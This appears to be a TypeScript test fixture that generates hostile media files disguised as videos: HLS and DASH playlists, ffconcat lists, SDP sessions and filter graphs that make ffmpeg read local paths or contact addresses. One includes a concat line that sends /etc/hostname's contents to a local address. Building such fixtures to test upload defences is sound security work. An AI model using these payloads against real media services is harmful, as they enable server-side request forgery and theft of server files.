/** A text that calls itself a video. */
export interface HostileText {
  readonly name: string;
  readonly what: string;
  readonly content: string;
}

const playlist = (lines: string, end = '#EXT-X-ENDLIST\n') =>
  `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:4\n#EXT-X-MEDIA-SEQUENCE:0\n${lines}${end}`;

const passwords = 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n'.repeat(
  25,
);

/**
 * Texts that name a film by its path, or an address, in every language that ffmpeg follows; and texts that it would
 * draw as pictures.
 */
export function hostileTexts(secret: string): readonly HostileText[] {
  const segment = `#EXTINF:4,\n${secret}\n`;
  const dash =
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" ' +
    'mediaPresentationDuration="PT4S"><Period><AdaptationSet><Representation id="1" bandwidth="1">' +
    `<BaseURL>${secret}</BaseURL></Representation></AdaptationSet></Period></MPD>`;
  return [
    { name: 'playlist.mp4', what: 'a playlist of another film', content: playlist(segment) },
    { name: 'playlist.m3u8', what: 'a playlist under its own name', content: playlist(segment) },
    { name: 'live.mp4', what: 'a live playlist, which never ends', content: playlist(segment, '') },
    {
      name: 'master.mp4',
      what: 'a playlist of playlists',
      content: `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${secret}.m3u8\n`,
    },
    {
      name: 'online.mp4',
      what: 'a playlist of an address',
      content: playlist('#EXTINF:4,\nhttp://127.0.0.1:9/film.ts\n'),
    },
    {
      name: 'joined.mp4',
      what: 'a playlist that sends what it has read to an address',
      content: playlist('#EXTINF:4,\nconcat:http://127.0.0.1:9/?|file:///etc/hostname\n'),
    },
    {
      name: 'list.mkv',
      what: 'a list of files to concatenate',
      content: `ffconcat version 1.0\nfile '${secret}'\n`,
    },
    { name: 'manifest.mov', what: 'a DASH manifest', content: dash },
    {
      name: 'session.ts',
      what: 'a session to listen to on the network',
      content: 'v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n',
    },
    { name: 'subtitles.avi', what: 'subtitles', content: '1\n00:00:00,000 --> 00:00:01,000\nHello\n' },
    {
      name: 'index.mpg',
      what: 'an index of subtitles, whose file lies beside it',
      content: '# VobSub index file, v7 (do not modify this line!)\nid: en, index: 0\n',
    },
    { name: 'passwords.txt', what: 'a text that would become pictures', content: passwords },
    { name: 'passwords.ans', what: 'a text that would become pictures', content: passwords },
    { name: 'passwords.mp4', what: 'a text that would become pictures', content: passwords },
    {
      name: 'script.mp4',
      what: 'a graph of filters that reads another film',
      content: `movie=${secret}\n`,
    },
  ];
}
